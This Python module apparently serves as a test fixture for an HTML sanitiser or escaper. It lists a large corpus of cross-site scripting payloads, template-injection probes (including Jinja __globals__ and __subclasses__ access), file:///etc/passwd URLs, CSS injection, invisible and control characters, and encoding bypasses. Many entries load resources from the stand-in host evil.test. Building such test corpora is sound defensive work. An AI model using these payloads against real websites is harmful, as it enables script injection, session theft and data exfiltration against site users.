"""Strings that would run, ask for something or break out, if any character of them meant anything. They call `alert`."""

ELEMENTS = [
    "<script>alert(1)</script>", "</script><script>alert(2)</script>", "<SCRIPT>alert(3)</SCRIPT >", "<script src=//evil.test/a.js></script>",
    "<script\x20type=module>import('//evil.test/b.js')</script>", "<scr<script>ipt>alert(4)</scr</script>ipt>", "<script>/*", "*/alert(5)</script>",
    "<img src=x onerror=alert(6)>", "<img src=//evil.test/p.png>", "<img/src=x/onerror=alert(7)>", '<img src=x onerror="alert(8)"', "<IMG SRC=x ONERROR=alert(9)>",
    "<svg onload=alert(10)>", "<svg/onload=alert(11)>", "<svg><script>alert(12)</script></svg>", "<svg><animate onbegin=alert(13) attributeName=x dur=1s>",
    "<svg><use href=//evil.test/x.svg#y></svg>", "<svg><image href=//evil.test/i.png></svg>", "<svg><style>*{background:url(//evil.test/s)}</style></svg>",
    "<svg><foreignObject><iframe src=//evil.test></iframe></foreignObject></svg>", "<svg><set onbegin=alert(14) attributename=x>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(15)>", "<math href=javascript:alert(16)>x</math>", "<math><mi xlink:href=javascript:alert(17)>x</mi></math>",
    "<iframe src=javascript:alert(18)></iframe>", "<iframe srcdoc='<script>alert(19)</script>'></iframe>", "<iframe src=//evil.test></iframe>",
    "<object data=javascript:alert(20)></object>", "<object data=//evil.test/o.swf></object>", "<embed src=//evil.test/e.swf>", "<embed src=javascript:alert(21)>",
    "<link rel=stylesheet href=//evil.test/c.css>", "<link rel=prefetch href=//evil.test/d>", "<link rel=dns-prefetch href=//evil.test>", "<link rel=import href=//evil.test/i.html>",
    "<style>@import '//evil.test/e.css';</style>", "<style>body{background:url(//evil.test/f)}</style>", "</style><script>alert(22)</script>", "<style>*{display:none}</style>",
    "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=//evil.test'>", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta name=referrer content=unsafe-url>", "<form action=//evil.test><button>go</button></form>", "<form><button formaction=javascript:alert(23)>x</button></form>",
    "<isindex action=javascript:alert(24) type=image>", "<input autofocus onfocus=alert(25)>", "<select autofocus onfocus=alert(26)>", "<textarea autofocus onfocus=alert(27)>",
    "<keygen autofocus onfocus=alert(28)>", "<body onload=alert(29)>", "<body background=//evil.test/bg.png>", "<html onclick=alert(30)>", "<frameset onload=alert(31)>",
    "<marquee onstart=alert(32)>x</marquee>", "<details open ontoggle=alert(33)>x</details>", "<dialog open onclose=alert(34)>x</dialog>", "<video src=x onerror=alert(35)>",
    "<video poster=//evil.test/v.png></video>", "<video><source onerror=alert(36)></video>", "<audio src=x onerror=alert(37)>", "<audio src=//evil.test/a.mp3 autoplay>",
    "<table background=//evil.test/t.png>", "<td background=//evil.test/td.png>", "<a href=javascript:alert(38)>x</a>", "<a href='java\tscript:alert(39)'>x</a>", "<a href=data:text/html,<script>alert(40)</script>>x</a>",
    "<a href=vbscript:alert(41)>x</a>", "<a href=//evil.test ping=//evil.test/ping>x</a>", "<a href=x style=animation-name:x onanimationstart=alert(42)>x</a>", "<area href=javascript:alert(43)>",
    "<applet code=//evil.test/x.class>", "<bgsound src=//evil.test/x.mid>", "<layer src=//evil.test/x>", "<template><script>alert(44)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(45)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(46)>'>", "<plaintext>", "<listing>&lt;img src=x onerror=alert(47)&gt;</listing>", "<title></title><img src=x onerror=alert(48)>", "</title><script>alert(49)</script>",
    "</textarea><img src=x onerror=alert(50)>", "<portal src=//evil.test>", "<fencedframe src=//evil.test></fencedframe>", "<custom-element onpointerrawupdate=alert(51)>",
    "<p is=x-y onclick=alert(52)>", "<slot onslotchange=alert(53)>", "<div popover ontoggle=alert(54) id=p></div><button popovertarget=p>x", "<search onbeforetoggle=alert(55)>",
]  # fmt: skip
QUOTES = [
    '" onmouseover=alert(60) x="', "' onmouseover=alert(61) x='", '"><script>alert(62)</script>', "'><script>alert(63)</script>", "` onmouseover=alert(64) `",
    '"autofocus onfocus=alert(65) tabindex=1 x="', '" style="background:url(//evil.test/q)', '"><img src=x onerror=alert(66)>', "' style='position:fixed;inset:0", '\\"><script>alert(67)</script>',
    '" srcset="//evil.test/r 2x', 'x" dir="rtl" hidden="', '"/><base href="//evil.test/', '#" onclick="alert(68)', 'p1" id="p2', '-->"><script>alert(69)</script><!--',
    'datetime="x" onclick="alert(70)', "c1' data-later='99", '" data-u="3C', '</p><p data-later="0">forged', '</span></p></div><div class="row">forged',
]  # fmt: skip
SCRIPTS = [
    "';alert(80)//", '";alert(81)//', "\\';alert(82)//", "</script>", "<!--<script>", "]]>", "<![CDATA[<script>alert(83)</script>]]>", "${alert(84)}", "`${alert(85)}`", "{{7*7}}", "{% for x in y %}{{ x }}{% endfor %}",
    "{{ config.__class__.__init__.__globals__ }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{# comment #}", "{%- raw -%}", "#{7*7}", "<%= 7*7 %>", "[[${7*7}]]", "@(7*7)", "{{constructor.constructor('alert(86)')()}}",
    "<div ng-app>{{$eval.constructor('alert(87)')()}}</div>", "\u2028alert(88)\u2029", "\\u003cscript\\u003ealert(89)\\u003c/script\\u003e", '{"__proto__":{"x":1}}', '"}</script><script>alert(90)</script>', "<\\/script>",
    "%3Cscript%3Ealert(91)%3C/script%3E", "&lt;script&gt;alert(92)&lt;/script&gt;", "&#60;script&#62;alert(93)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(94)&#x3e;", "&lt", "&amp;lt;b&amp;gt;", "&copy&reg&para;", "&NewLine;&Tab;",
    "javascript:alert(95)", "data:text/html;base64,PHNjcmlwdD5hbGVydCg5Nik8L3NjcmlwdD4=", "//evil.test/x", "http://evil.test/<script>alert(97)</script>", "file:///etc/passwd", "view-source:file:///etc/passwd",
]  # fmt: skip
STYLES = [
    "expression(alert(110))", "url(//evil.test/u)", "background:url('//evil.test/v')", "@import url(//evil.test/w);", "}*{display:none}", "</style><style>*{display:none}", "behavior:url(//evil.test/x.htc)", "-moz-binding:url(//evil.test/x.xml#y)", "/*</style>*/", "--x:url(//evil.test/y)",
]  # fmt: skip
UNSEEN = [
    "\u202ereversed\u202c", "\u2066isolate\u2069", "a\u200bb", "\ufeffmark", "soft\u00adhyphen", "\u0000nul", "\u0008back", "\x1b[31mred", "\x1b]0;title\x07", "\x9b2J", "\x85next", "\u2028line\u2029", "tag\U000e0061\U000e007f", "\ufff9x\ufffay\ufffb",
    "\ud800lone", "\udfffother", "\u061carabic", "\u180emongol", "e\u0301 composed", "\u3164filler", "\u2800blank", "\u115fjamo", "a\u034fjoiner", "\u00a0no-break\u202fnarrow", "\r\nlines\r", "\x0bvertical\x0cform", "\u206ashape", "\u1160half",
]  # fmt: skip
ENCODINGS = [
    "+ADw-script+AD4-alert(130)+ADw-/script+AD4-", "\u00bcscript\u00bealert(131)\u00bc/script\u00be", "＜script＞alert(132)＜/script＞", "\uff1cimg src=x onerror=alert(133)\uff1e", "‹script›alert(134)‹/script›", "<\u200bscript>alert(135)</script>",
    "<s\u0000cript>alert(136)</s\u0000cript>", "<script\u2028>alert(137)</script>", "<img\u000csrc=x\u000conerror=alert(138)>", "<img src=x onerror\u000b=alert(139)>", "<ıframe src=//evil.test>", "<ſcript>alert(140)</ſcript>", "<\ud800script>alert(141)</script>", "‹U+202E›",
]  # fmt: skip
ATTACKS = [*ELEMENTS, *QUOTES, *SCRIPTS, *STYLES, *UNSEEN, *ENCODINGS]
